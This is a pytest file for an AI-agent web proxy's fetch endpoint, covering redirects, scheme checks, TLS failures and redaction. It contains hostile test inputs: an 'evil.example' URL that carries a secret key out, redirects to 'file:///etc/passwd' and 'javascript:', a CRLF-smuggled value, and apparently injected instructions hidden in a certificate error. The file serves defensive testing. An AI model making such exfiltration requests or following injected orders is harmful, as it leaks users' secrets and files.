"""`/fetch`: parameters, redirects, and what an answer may say."""

from __future__ import annotations

import json
from typing import Any

import pytest

from pipelock.model import BlockReason
from pipelock.proxy.fetch import parameters
from pipelock.proxy.tls_client import UpstreamTlsError
from tests.factories import FAKE_KEY, FAKE_ORDER
from tests.proxy.house import Caller, House, ok


def fetch(house: House, query: str, method: str = "GET") -> Caller:
    client = house.caller()
    client.says(f"{method} /fetch?{query} HTTP/1.1\r\nHost: localhost:8888\r\n\r\n".encode())
    return client


def told(client: Caller) -> tuple[int, dict[str, Any]]:
    head, _, body = client.heard.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]), json.loads(body)


@pytest.mark.parametrize(
    ("query", "url", "agent"),
    [
        ("url=http://a.example/x", "http://a.example/x", ""),
        ("url=http%3A%2F%2Fa.example%2F%3Fq%3D1%262", "http://a.example/?q=1&2", ""),
        ("agent=bob&url=http://a.example/", "http://a.example/", "bob"),
        ("url=http://a.example/?p=1&q=2", "http://a.example/?p=1&q=2", ""),
        ("url=http://a.example/%0d%0ax", "http://a.example/x", ""),
        ("curl=http://a.example/", "", ""),
        ("", "", ""),
    ],
)
def test_parameters(query: str, url: str, agent: str) -> None:
    assert parameters(query) == (url, agent)


@pytest.mark.parametrize(
    ("query", "method", "status"),
    [("url=http://a.example/", "POST", 405), ("agent=x", "GET", 400), ("url=ftp://a.example/", "GET", 403)],
)
def test_calls_that_make_no_sense_fetch_nothing(query: str, method: str, status: int) -> None:
    house = House()
    client = fetch(house, query, method)
    assert told(client)[0] == status
    assert not house.dials


def test_a_page_comes_as_text() -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    origin = house.dials[0].answer()
    assert b"accept-encoding: identity" in origin.heard
    body = b"<title>Hi</title><p>one<p>two"
    origin.says(f"HTTP/1.1 404 No\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    status, page = told(client)
    assert (status, page["status_code"], page["title"], page["blocked"]) == (200, 404, "Hi", False)
    client.leaves()
    house.assert_nothing_is_left()


def redirect(to: str) -> bytes:
    return f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode()


def test_five_redirects_are_followed_each_judged_and_not_a_sixth() -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    for hop in range(6):
        assert len(house.dials) == hop + 1
        house.dials[hop].answer().says(redirect(f"http://h{hop}.example/"))
    assert len(house.dials) == 6
    status, page = told(client)
    assert (status, page["blocked"]) == (403, True)
    client.leaves()
    house.assert_nothing_is_left()


def test_a_redirect_to_https_is_dialled_there() -> None:
    house = House()
    fetch(house, "url=http://a.example/")
    house.dials[0].answer().says(redirect("https://a.example/"))
    assert house.dials[1].port == 443


@pytest.mark.parametrize("to", ["ftp://a.example/", "javascript:x", "file:///etc/passwd"])
def test_a_redirect_to_no_web_address_is_refused(to: str) -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    house.dials[0].answer().says(redirect(to))
    assert told(client)[0] == 403
    assert len(house.dials) == 1


@pytest.mark.parametrize("first", [True, False])
def test_a_refusal_does_not_repeat_the_secret(first: bool) -> None:
    house = House()
    url = f"http://evil.example/?k={FAKE_KEY}"
    client = fetch(house, f"url={url}" if first else "url=http://a.example/")
    if not first:
        house.dials[0].answer().says(redirect(url))
    status, page = told(client)
    assert (status, page["blocked"]) == (403, True)
    assert FAKE_KEY.encode() not in client.heard


def test_an_upstream_that_fails_is_a_502_in_json() -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    for _ in range(2):
        house.dials[-1].refuse()
    status, page = told(client)
    assert (status, page["blocked"]) == (502, False)


def test_an_upstream_that_is_not_who_it_should_be_is_refused_and_recorded() -> None:
    house = House()
    client = fetch(house, "url=https://a.example/")
    house.dials[0].fails(UpstreamTlsError("a.example can't be trusted: its certificate is for evil.example"))
    status, page = told(client)
    assert (status, page["blocked"]) == (502, True)
    assert "evil.example" in page["block_reason"]
    assert [record.decision.code for record in house.records][-1] is BlockReason.AUTHORITY_MISMATCH
    assert not house.errors
    client.leaves()
    house.assert_nothing_is_left()


def test_what_a_certificate_is_called_gives_nobody_orders() -> None:
    house = House()
    client = fetch(house, "url=https://a.example/")
    why = f'a.example can\'t be trusted: its certificate was signed by "{FAKE_ORDER}", which is not trusted here'
    house.dials[0].fails(UpstreamTlsError(why))
    assert told(client)[0] == 502
    assert FAKE_ORDER.encode() not in client.heard
    assert FAKE_ORDER not in house.records[-1].decision.reason


def test_a_client_that_leaves_between_hops() -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    house.dials[0].answer().says(redirect("http://b.example/"))
    client.leaves()
    assert house.dials[1].is_cancelled
    house.assert_nothing_is_left()


def test_plain_text_comes_as_it_is() -> None:
    house = House()
    client = fetch(house, "url=http://a.example/")
    house.dials[0].answer().says(ok(b"as it is"))
    assert told(client)[1]["content"] == "as it is"
